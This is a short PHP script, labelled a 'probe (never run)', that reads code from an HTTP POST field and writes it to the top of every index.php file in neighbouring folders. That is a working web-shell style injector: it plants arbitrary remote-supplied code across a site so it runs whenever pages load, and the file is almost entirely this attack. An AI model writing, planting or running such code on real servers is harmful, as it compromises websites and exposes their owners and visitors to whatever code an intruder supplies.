<?php
// probe (never run): the posted code prepended to every index.php under a folder
$code = $_POST['code'];
foreach (glob('../*/index.php') as $f) {
    $old = file_get_contents($f);
    $fh = fopen($f, 'w');
    fwrite($fh, $code . "\n" . $old);
    fclose($fh);
}
